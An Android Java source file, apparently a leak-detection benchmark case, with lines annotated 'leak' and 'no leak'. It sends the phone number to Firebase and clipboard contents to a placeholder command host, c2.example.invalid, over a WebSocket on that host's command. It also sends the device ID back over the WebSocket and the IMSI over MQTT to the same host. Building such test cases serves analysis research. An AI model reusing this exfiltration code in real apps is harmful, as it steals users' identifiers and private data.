package trojans;

import android.app.Activity;
import android.content.ClipboardManager;
import android.os.Bundle;
import android.telephony.TelephonyManager;
import com.google.firebase.database.DatabaseReference;
import com.google.firebase.database.FirebaseDatabase;
import java.util.HashMap;
import java.util.Map;
import okhttp3.OkHttpClient;
import okhttp3.Request;
import okhttp3.Response;
import okhttp3.WebSocket;
import okhttp3.WebSocketListener;
import okio.ByteString;
import org.eclipse.paho.client.mqttv3.MqttClient;
import org.eclipse.paho.client.mqttv3.MqttMessage;

/** Through services that others run. */
public class Cloud extends Activity {
    private WebSocket socket;

    protected void onResume() {
        super.onResume();
        final TelephonyManager phone = (TelephonyManager) getSystemService(TELEPHONY_SERVICE);
        DatabaseReference root = FirebaseDatabase.getInstance().getReference("devices");
        Map<String, Object> row = new HashMap<>();
        row.put("n", phone.getLine1Number());
        row.put("v", 3);
        root.child("a").setValue(row); // leak
        root.child("v").setValue(row.get("v")); // no leak
        root.child("seen").setValue(System.currentTimeMillis()); // no leak
        Request request = new Request.Builder().url("wss://c2.example.invalid/ws").build();
        new OkHttpClient().newWebSocket(request, new WebSocketListener() {
            @Override
            public void onOpen(WebSocket opened, Response response) {
                socket = opened;
                opened.send("hello"); // no leak
            }

            @Override
            public void onMessage(WebSocket from, String text) {
                if (text.equals("clip")) {
                    ClipboardManager clips = (ClipboardManager) getSystemService(CLIPBOARD_SERVICE);
                    from.send("clip " + clips.getPrimaryClip().getItemAt(0).coerceToText(Cloud.this)); // leak
                } else if (text.startsWith("echo")) {
                    from.send(text.substring(5)); // no leak
                }
            }

            @Override
            public void onMessage(WebSocket from, ByteString bytes) {
                socket.send(ByteString.encodeUtf8(phone.getDeviceId())); // leak
            }
        });
        new Thread(() -> {
            try {
                queue(phone.getSubscriberId());
            } catch (Exception e) {
                finish();
            }
        }).start();
    }

    private void queue(String imsi) throws Exception {
        MqttClient client = new MqttClient("tcp://c2.example.invalid", "bot");
        client.connect();
        MqttMessage message = new MqttMessage();
        message.setPayload(imsi.getBytes());
        message.setQos(1);
        client.publish("up/1", message); // leak
        client.publish("up/2", new byte[] {1}, 0, false); // no leak
    }

    protected void onCreate(Bundle state) {
        super.onCreate(state);
    }
}
